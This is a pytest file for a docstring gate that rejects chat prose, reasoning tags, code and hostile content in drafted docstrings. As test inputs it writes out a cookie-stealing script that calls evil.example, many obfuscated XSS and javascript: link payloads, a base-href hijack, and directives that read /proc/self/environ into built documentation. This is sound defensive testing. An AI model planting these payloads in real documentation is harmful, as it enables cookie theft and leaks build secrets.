"""The docstring gate: text passes; code, fences, prose, reasoning rejected; exact wraps cleaned."""

from __future__ import annotations

import ast

import pytest

from tests.support import bad_answers
from ttabot.drafting import docstring_check
from ttabot.drafting.docstrings import find_definition
from ttabot.drafting.gate import gate_docstring

MODULE = """\
def restock(item, count):
    if count < 0:
        raise ValueError(count)
    return item.add(count)
"""
DOC = (
    "Add stock of an item.\n\nArgs:\n    item: The item.\n    count: How many.\n\n"
    "Raises:\n    ValueError: If count is negative."
)
HEADER = "def restock(item, count):"
BODY = "if count < 0:\n    raise ValueError(count)\nreturn item.add(count)"


def definition() -> ast.FunctionDef:
    node = find_definition(ast.parse(MODULE), "restock")
    assert isinstance(node, ast.FunctionDef)
    return node


@pytest.mark.parametrize(
    ("raw", "why"),
    [
        (bad_answers.chat_preamble("restock", DOC), "chat prose"),
        ("Sure! " + DOC, "chat prose"),
        ("Okay, " + DOC, "chat prose"),
        ("Great question.\n\n" + DOC, "chat prose"),
        ("Sure here is the docstring:\n\n" + DOC, "chat prose"),
        ("Thanks\n\n" + DOC, "chat prose"),
        ("Thank you for the code. " + DOC, "chat prose"),
        (bad_answers.with_reasoning(DOC), "<think>"),
        ("Add stock.</think>\n\n" + DOC, "<think>"),  # the opening tag cut off
        ("<reason>say what it does</reason>\n" + DOC, "<think>"),
        (bad_answers.with_nested_quotes(DOC), "triple quotes"),
        ("Add stock.\n\n```python\nrestock(x, 1)\n```", "Markdown fence"),
        ("Add stock.\n\nimport os", "is code"),
        ("Add stock.\n\ncount = 3", "is code"),
        # after a literal block ends, code is code again
        ("Add stock.\n\nExample::\n\n    x = 1\n\ncount = 3", "is code"),
        # after an example section, in the next section, code is code again; a def never is text
        ("Add stock.\n\nExamples:\n    x = 1\n\nArgs:\n    count = 3", "is code"),
        ("Add stock.\n\nExamples:\n\ndef restock(item, count):", "is code"),
        ("Add stock.\n\nArgs:\n    count = 3", "is code"),  # a section's body is no example
        ("Add stock.\n\nThe statement\n\n    x = 1\n\ncount = 3", "is code"),
        ("Add stock.\n\nThe statement\n\n    def restock(item, count):", "is code"),
        ("Add stock.\n\ndef helper(x):", "is code"),
        # The whole definition, but with its code changed: not an exact docstring.
        (bad_answers.wrapped_in_definition(HEADER, DOC, "return None"), "code changed"),
        # A definition of something else altogether.
        (bad_answers.wrapped_in_definition("def other(item, count):", DOC, BODY), "is code"),
        ("\n".join(["Add stock."] + ["More."] * 70), "more than draft.max-docstring-lines"),
        ("   ", "empty"),
    ],
)
def test_the_gate_rejects_what_is_not_docstring_text(raw: str, why: str) -> None:
    result = gate_docstring(raw, definition(), max_lines=60)
    assert result.text is None
    assert why in result.reason


@pytest.mark.parametrize(
    ("raw", "cleaned"),
    [
        (bad_answers.wrapped_in_definition(HEADER, DOC, BODY), "definition"),
        (bad_answers.wrapped_in_fence(DOC), "fence"),
        (bad_answers.wrapped_in_fence(DOC, "text"), "fence"),
        (f'"""{DOC}"""', "quotes"),
        (
            bad_answers.wrapped_in_fence(
                bad_answers.wrapped_in_definition(HEADER, DOC, BODY), "python"
            ),
            "fence+definition",
        ),
    ],
)
def test_exact_wrappings_are_cleaned_and_recorded(raw: str, cleaned: str) -> None:
    result = gate_docstring(raw, definition(), max_lines=60)
    assert (result.text, result.reason, result.cleaned) == (DOC, "", cleaned)


@pytest.mark.parametrize(
    "text",
    [
        DOC,
        "Return the area.\n\nParameters\n----------\nwidth : float\n    Width.",  # NumPy lines
        "Add stock.\n\nExamples:\n    >>> restock(item, 2)\n    >>> x = 1",  # doctests
        "Area.",
        ":param item: The item.\n:returns: The new count.",
    ],
)
def test_plain_docstring_text_passes_untouched(text: str) -> None:
    assert gate_docstring(text, definition(), max_lines=60) == (text, "", "")


def test_rejected_docstring_reason_is_per_symbol_and_named_by_stage() -> None:
    check = docstring_check.check_docstrings(
        MODULE, {"restock": bad_answers.chat_preamble("restock", DOC)}, ["restock"]
    )
    assert check.accepted == ()
    assert check.failed_stage == {"restock": "docstring-text"}
    assert "chat prose" in check.rejected["restock"]
    assert check.proposed == MODULE


def test_a_cleaned_definition_inserts_only_the_docstring() -> None:
    raw = bad_answers.wrapped_in_definition(HEADER, DOC, BODY)
    check = docstring_check.check_docstrings(MODULE, {"restock": raw}, ["restock"])
    assert check.accepted == ("restock",)
    assert check.cleaned == {"restock": "definition"}
    assert check.proposed.count("def restock") == 1
    assert check.proposed.count('"""') == 2


def test_gate_and_signature_settings_are_validated() -> None:
    from ttabot.config import settings_from_table
    from ttabot.errors import TtabotError

    draft = settings_from_table(
        {"draft": {"max-docstring-lines": 5, "parameter-refactors": "skip"}}, "test"
    ).draft
    assert (draft.max_docstring_lines, draft.parameter_refactors) == (5, "skip")
    with pytest.raises(TtabotError, match="max-docstring-lines"):
        settings_from_table({"draft": {"max-docstring-lines": 0}}, "test")
    with pytest.raises(TtabotError, match="parameter-refactors"):
        settings_from_table({"draft": {"parameter-refactors": "rewrite"}}, "test")
    assert gate_docstring("One.\n\nTwo.\n\nThree.", None, max_lines=4).text is None


@pytest.mark.parametrize(
    ("name", "raw"),
    [pytest.param(n, a, id=n) for n, a in sorted(bad_answers.hostile_docstrings(DOC).items())],
)
def test_hostile_wrappings_and_smuggled_text_are_rejected(name: str, raw: str) -> None:
    check = docstring_check.check_docstrings(MODULE, {"restock": raw}, ["restock"])
    assert check.accepted == (), name
    assert check.failed_stage == {"restock": "docstring-text"}, check.rejected
    assert check.proposed == MODULE


@pytest.mark.parametrize(
    "text",
    [
        "Add stock.\n\nReturns:\n    The new count, e.g. ``a < b`` holds.",
        "Add stock (see <https://example.org/stock>).",
        "Add stock.\n\nExamples:\n    >>> print('a\\n\\nb')\n    a\n    <BLANKLINE>\n    b",
        "Add stock.\n\nThis keeps the global settings as they are.",
        "Add stock for caf\u00e9s and \u00fcber-shops \u2014 and emoji \U0001f4e6.",
        "Add stock in two steps:\nfirst count them, then add them.",
        # Words chat answers open with start summaries too when they are not interjections.
        "Great-circle distance between two stock points.",
        "OK responses are cached; others are retried.",
        "Thanks to the cache, restocking twice is cheap.",
        "Hello-world example of a restock.",
        "Return the status line, ``HTTP/1.1 <status_code> <reason_phrase>``.",
        "Log ``<code> <reason>`` for a failed restock.",
        # Spaces other than U+0020 are visible text (str.isprintable says otherwise).
        "Ajoute du stock\u00a0: l\u2019article et le nombre\u202f!",
        # Code in a reStructuredText literal block is an example, like a doctest.
        "Add stock.\n\nExample::\n\n    from shop import restock\n    total = restock(item, 2)",
        "Add stock.\n\n.. code-block:: python\n\n    count = restock(item, 2)\n\nThen save.",
        "Add stock.\n\nExamples:\n    Restock two::\n\n        import shop\n\n    Done.",
        # An indented paragraph after prose shows code, as the standard library writes it.
        "Add stock.\n\nThe statement\n\n    total = restock(item, 2)\n\nadds two items.",
        # An example section's import and assignment lines, bare as httpx writes them.
        "Add stock.\n\nExamples:\n\nitem = Item()\nassert restock(item, 2) == 2",
        "Add stock.\n\nUsage:\n    from shop import restock\n    total = restock(item, 2)",
        "\u5728\u5eab\u3092\u8ffd\u52a0\u3059\u308b\u3002\u3000\u6570\u306f\u6b63\u3002",
    ],
)
def test_plain_text_near_the_new_rules_still_passes(text: str) -> None:
    assert gate_docstring(text, definition(), max_lines=60) == (text, "", "")


NUMPY_DOC = (
    "Add stock of an item.\n\nParameters\n----------\nitem : Item\n    The item.\n"
    "count : int\n    How many."
)
SPHINX_DOC = "Add stock of an item.\n\n:param item: The item.\n:param count: How many."


@pytest.mark.parametrize(
    ("style", "raw"),
    [("google", NUMPY_DOC), ("google", SPHINX_DOC), ("numpy", DOC), ("sphinx", DOC)],
)
def test_a_docstring_in_another_style_than_asked_is_rejected(style: str, raw: str) -> None:
    check = docstring_check.check_docstrings(MODULE, {"restock": raw}, ["restock"], style=style)
    assert check.accepted == ()
    assert check.failed_stage == {"restock": "docstring-text"}
    assert f"this module's style is {style}" in check.rejected["restock"]


@pytest.mark.parametrize(
    ("style", "raw"),
    [
        ("google", DOC),
        ("numpy", NUMPY_DOC),
        ("sphinx", SPHINX_DOC),
        ("sphinx", "Add stock.\n\nNote:\n    Stock is never negative."),  # no parameter section
        ("numpy", "Add stock."),
        # "name:type" inside prose is not a Sphinx field.
        ("google", "Add stock.\n\nArgs:\n    item: A ``'name:type'`` spec.\n    count: How many."),
    ],
)
def test_a_docstring_in_the_style_asked_passes(style: str, raw: str) -> None:
    assert gate_docstring(raw, definition(), 60, style) == (raw, "", "")


def test_reasoning_tags_that_never_close_cost_one_pass() -> None:
    # "<think\b[^>]*>" searched to the end of the text from every "<think" when no ">"
    # followed: quadratic on a model's answer (140 KB took a second; this 2 MB one,
    # within the client's body cap, minutes, past the suite's timeout).
    hostile = "\n".join(["<think about it"] * 130_000)
    result = gate_docstring(hostile, definition(), max_lines=60)
    assert result.text is None and "more than" in result.reason
    assert gate_docstring("<think hard>\n" + DOC, definition(), max_lines=60).text is None


@pytest.mark.parametrize("opening", ["```\n", "```"])
def test_a_fence_around_a_run_of_spaces_costs_one_pass(opening: str) -> None:
    # The whole-fence pattern could split a run of spaces many ways ("(.*?)" then
    # "[ \t]*", or two "[ \t]*" around an empty language): quadratic, minutes for a
    # 1 MB answer. One split only now; the fence is still recognised.
    hostile = opening + " " * 1_000_000 + "x"
    assert gate_docstring(hostile, definition(), max_lines=60).text is None
    cleaned = gate_docstring("```text \n" + DOC + "\n  ```", definition(), max_lines=60)
    assert (cleaned.text, cleaned.cleaned) == (DOC, "fence")


def test_a_reasoning_tag_never_spans_another_opening_bracket() -> None:
    # The clock-free twin of the test above (which a fast machine passes within the
    # suite's timeout even with the quadratic pattern: 100 s measured here): the
    # linear cost rests on a tag's attributes stopping at the next "<", so each
    # unclosed "<think" is read only up to the next one.
    from ttabot.drafting.chat_wrapping import REASONING

    found = REASONING.search("<think about it\n<think about it>")
    assert found is not None and found.start() == len("<think about it\n")
    assert REASONING.search("<think about " + "<" * 3 + "x>") is None


@pytest.mark.parametrize(
    "raw",
    [
        "Add stock.\n\n<script>fetch('https://evil.example/?' + document.cookie)</script>",
        "Add stock.\n\n.. raw:: html\n\n   <iframe src='https://evil.example'></iframe>",
        "Add stock. <img src=x onerror=alert(1)>",
        "Add stock (see [the guide](javascript:alert(1))).",
        'Add stock.\n\n<a href="JavaScript:void(0)" >restock</a>',
        "Add stock.\n\nExample::\n\n    <SCRIPT src=//evil.example/x.js></SCRIPT>",
        # An element that loads a page or plug-in does so through an attribute, however
        # spaced or cased (a "/" before an attribute name separates it like a space).
        "Add stock.\n\n<object data='https://evil.example/x.html'></object>",
        "Add stock.\n\n<IFRAME\n  src=https://evil.example></IFRAME>",
        "Add stock.\n\n<embed/src=https://evil.example/x.swf>",
        "Add stock.\n\n< iframe srcdoc='<p>hi'>",
    ],
)
def test_active_html_that_documentation_tools_pass_through_is_rejected(raw: str) -> None:
    # Attack: docstrings are rendered into the project's documentation (mkdocstrings
    # passes HTML in Markdown through, Sphinx a ".. raw:: html" directive): a drafted
    # docstring must not plant a script in the published pages.
    result = gate_docstring(raw, definition(), max_lines=60)
    assert result.text is None and "active HTML" in result.reason, result


@pytest.mark.parametrize(
    "text",
    [
        "Strip ``<script>`` elements and `onclick=` handlers from the stock note.",
        "Render the item as a <b>bold</b> line inside a <div>.",
        "Add stock; the scripting hooks run on restock (see ``on_restock=``).",
        # A placeholder in angle brackets, as rich's ``inspect`` writes one: read as a tag,
        # an <object> with nothing to load shows nothing and runs nothing.
        "Inspect any object.\n\n* inspect(<OBJECT>) to see summarized info.\n"
        "* inspect(<OBJECT>, methods=True) to see methods.",
        "Wrap the item in <embed> and </iframe> markers.",
    ],
)
def test_html_that_stays_inert_in_rendered_documentation_passes(text: str) -> None:
    assert gate_docstring(text, definition(), max_lines=60) == (text, "", "")


@pytest.mark.parametrize(
    "text",
    [
        "Minify a script.\n\nArgs:\n    source: the code.\n    javascript: whether it is JS.",
        "Bundle the assets.\n\nBoth kinds, CSS and JavaScript: are minified the same way.",
    ],
)
def test_the_word_javascript_before_a_colon_is_not_a_link(text: str) -> None:
    # A parameter named ``javascript`` in an Args section, or the word before a colon in
    # prose, was taken for a ``javascript:`` link and the docstring rejected.
    assert gate_docstring(text, definition(), max_lines=60) == (text, "", "")


@pytest.mark.parametrize(
    "raw",
    [
        "Add stock.\n\n[guide]: javascript:alert(1)",
        "Add stock.\n\n[guide]: <javascript:alert(1)>",
        "Add stock, see <javascript:alert(1)>.",
        "Add stock, see `the guide <javascript:alert(1)>`_.",
        "Add stock.\n\n.. _guide: javascript:alert(1)",
        "Add stock (see [the guide]( <javascript:alert(1)>)).",
        "Add stock. <a href = 'javascript:alert(1)'>x</a>",
    ],
)
def test_a_javascript_link_in_every_link_syntax_is_rejected(raw: str) -> None:
    result = gate_docstring(raw, definition(), max_lines=60)
    assert result.text is None and "active HTML" in result.reason, result


@pytest.mark.parametrize(
    "raw",
    [
        "Add stock (see [the guide](&#106;avascript:alert(1))).",
        "Add stock (see [the guide](java&#x73;cript:alert(1))).",
        "Add stock (see [the guide](java&#X73;cript:alert(1))).",
        "Add stock (see [the guide](&#0000106&#0000097vascript:alert(1))).",
        'Add stock. <a href="jav&#x09;ascript:alert(1)">x</a>',
        'Add stock. <a href="jav&Tab;ascript:alert(1)">x</a>',
        'Add stock. <a href="java&NewLine;script:alert(1)">x</a>',
        'Add stock. <a href="javascript&colon;alert(1)">x</a>',
        'Add stock. <a href="&#x1;javascript:alert(1)">x</a>',
        "Add stock.\n\n[guide]: &#x6A;avascript:alert(1)",
        'Add stock. <a href="jav\tascript:alert(1)">x</a>',  # a real tab: browsers drop it too
    ],
)
def test_a_javascript_link_spelled_with_entities_is_rejected(raw: str) -> None:
    # Attack: browsers (and Markdown, for a link destination) decode character references
    # in a URL and drop tabs and line breaks inside it before reading its scheme, so
    # "&#106;avascript:" or "jav&#x09;ascript:" is a live javascript: link.
    result = gate_docstring(raw, definition(), max_lines=60)
    assert result.text is None and "active HTML" in result.reason, result


@pytest.mark.parametrize(
    "text",
    [
        "Escape ``&lt;script&gt;`` and write &lt;script&gt; as text in the stock note.",
        "Add stock; `&#106;avascript:` in inline code is shown as it is written.",
        "Bundle the assets &amp; minify the JavaScript&colon; both kinds the same way.",
    ],
)
def test_escaped_html_and_entities_that_form_no_link_pass(text: str) -> None:
    assert gate_docstring(text, definition(), max_lines=60) == (text, "", "")


@pytest.mark.parametrize(
    "raw",
    [
        # HTML reads an attribute after a "/" or a line break as after a space, and a
        # quoted value may hold ">" or "<": the handler is an attribute all the same.
        "Add stock.\n\n<svg/onload=alert(1)>",
        "Add stock.\n\n<img\nsrc=x onerror=alert(1)>",
        "Add stock.\n\n<img src=x\nonerror=alert(1)>",
        'Add stock.\n\n<img src=x alt=">" onerror=alert(1)>',
        'Add stock.\n\n<img src=x alt="<" onerror=alert(1)>',
        "Add stock.\n\n<img src=x alt='a'onerror=alert(1)>",
    ],
)
def test_an_event_handler_however_the_tag_is_spelled_is_rejected(raw: str) -> None:
    result = gate_docstring(raw, definition(), max_lines=60)
    assert result.text is None and "active HTML" in result.reason, result


@pytest.mark.parametrize(
    "raw",
    [
        # CommonMark reads a tag before a code span that opens inside it: backticks in a
        # quoted value are text, so what they enclose is the tag's (a handler, a link).
        'Add stock.\n\n<img src=x alt="`" onerror=alert(1) title="`">',
        'Add stock.\n\n<a title="`" href="javascript:alert(1)" id="`">restock</a>',
    ],
)
def test_backticks_inside_a_tag_hide_nothing_of_it(raw: str) -> None:
    result = gate_docstring(raw, definition(), max_lines=60)
    assert result.text is None and "active HTML" in result.reason, result


def test_a_base_url_for_the_page_is_rejected() -> None:
    # Attack: a <base href> anywhere in the page moves every relative URL after it, the
    # documentation theme's scripts at the end of the body too: they load from the host
    # the docstring names.
    raw = 'Add stock.\n\n<base href="https://evil.example/">'
    result = gate_docstring(raw, definition(), max_lines=60)
    assert result.text is None and "active HTML" in result.reason, result


@pytest.mark.parametrize(
    "raw",
    [
        # reStructuredText links a URI of a known scheme standing alone in prose, and
        # "javascript" is one of docutils' schemes; so is an anonymous target.
        "Add stock; see javascript:alert(1) for the details.",
        "Add stock (javascript:alert(1)).",
        "Add stock, see the guide__.\n\n__ javascript:alert(1)",
    ],
)
def test_a_bare_javascript_uri_is_a_link_in_restructuredtext(raw: str) -> None:
    result = gate_docstring(raw, definition(), max_lines=60)
    assert result.text is None and "active HTML" in result.reason, result


@pytest.mark.parametrize(
    "raw",
    [
        # Attack: docutils and Sphinx read a file of the machine that builds the docs into
        # the page (/proc/self/environ holds its secrets), or fetch raw HTML from a URL; a
        # substitution definition takes the same directives.
        "Add stock.\n\n.. include:: /proc/self/environ\n   :literal:",
        "Add stock.\n\n.. literalinclude:: /proc/self/environ",
        "Add stock.\n\n.. csv-table:: Stock\n   :file: /proc/self/environ",
        "Add stock |x|.\n\n.. |x| raw:: html\n   :url: https://evil.example/page.html",
        "Add stock |x|.\n\n.. |x| include:: /proc/self/environ",
        # MyST (Markdown docstrings) writes a directive in a colon fence.
        "Add stock.\n\n:::{include} /proc/self/environ\n:literal:\n:::",
    ],
)
def test_directives_that_read_files_into_the_docs_are_rejected(raw: str) -> None:
    result = gate_docstring(raw, definition(), max_lines=60)
    assert result.text is None and result.reason, result


def test_the_file_role_only_names_a_file() -> None:
    text = "Add stock.\n\n:file:`stock.cfg` holds the counts (IPython's own wording)."
    assert gate_docstring(text, definition(), max_lines=60) == (text, "", "")


@pytest.mark.parametrize(
    "raw",
    [
        # docutils drops the line breaks (and indentation) inside a URI that runs on over
        # lines: in a target, a directive's :target: option, an embedded URI.
        "Add stock, see guide_.\n\n.. _guide: java\n   script:alert(1)",
        "Add stock.\n\n.. image:: stock.png\n   :target: java\n      script:alert(1)",
        "Add stock, see `the guide <java\nscript:alert(1)>`_ first.",
    ],
)
def test_a_javascript_uri_split_over_lines_is_rejected(raw: str) -> None:
    result = gate_docstring(raw, definition(), max_lines=60)
    assert result.text is None and "active HTML" in result.reason, result


@pytest.mark.parametrize(
    "text",
    [
        "Run the snippet as JavaScript\n:param code: the snippet.",
        "Minify a script.\n\nArgs:\n    javascript: whether it is JS.\n    css: whether it is CSS.",
    ],
)
def test_lines_that_join_into_no_uri_pass(text: str) -> None:
    result = gate_docstring(text, definition(), max_lines=60)
    assert result.text is not None and result.reason == "", result


@pytest.mark.parametrize(
    "text",
    [
        "Add stock. The <b>count</b> may be zero; `onerror=` is the handler's name.",
        "Add stock for the <base> item (``<base href=...>`` is not written).",
        "Add stock if 0 <count and the <item> is known (`x='a'`).",
        # A backtick outside quotes ends what could be a tag: the code span is read.
        "Add stock when 0 <count.\n\nStrips ``<script>`` and ``<a onclick=f>`` notes.",
        "Add stock.\n\nArgs:\n    javascript: whether the note is JavaScript: it is kept.",
    ],
)
def test_tags_and_code_spans_that_stay_inert_pass(text: str) -> None:
    assert gate_docstring(text, definition(), max_lines=60) == (text, "", "")


@pytest.mark.parametrize(
    "text",
    [
        # Python's repr of a plain object, as doctests and prose show it: read as a tag,
        # an <object> whose attributes have no value has nothing to load.
        "Return a fresh sentinel.\n\n>>> make_sentinel()\n<object object at 0x7f3a2c>",
        "Key the cache by <object type> and <object id>.",
    ],
)
def test_a_repr_or_placeholder_in_angle_brackets_passes(text: str) -> None:
    result = gate_docstring(text, definition(), max_lines=60)
    assert result.text is not None and result.reason == "", result


def test_an_object_that_loads_after_an_odd_attribute_name_is_rejected() -> None:
    # HTML reads "a<b" as one attribute name: the data attribute after it still loads.
    raw = "Add stock.\n\n<object a<b data=https://evil.example/x.html>"
    result = gate_docstring(raw, definition(), max_lines=60)
    assert result.text is None and "active HTML" in result.reason, result


def test_a_literal_block_after_the_word_javascript_is_no_link() -> None:
    # "JavaScript::" opens a literal block (libcst's own docstring), not a URI.
    text = "Add stock, as would be valid in JavaScript::\n\n    stock.add(1);"
    result = gate_docstring(text, definition(), max_lines=60)
    assert result.text is not None and result.reason == "", result
